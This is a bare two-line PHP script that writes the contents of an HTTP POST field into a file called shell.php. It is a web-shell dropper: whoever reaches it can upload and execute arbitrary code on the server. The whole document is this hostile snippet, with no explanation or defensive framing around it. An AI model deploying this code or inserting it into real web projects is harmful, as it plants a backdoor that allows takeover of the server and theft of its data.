<?php
file_put_contents("shell.php", $_POST["body"]);
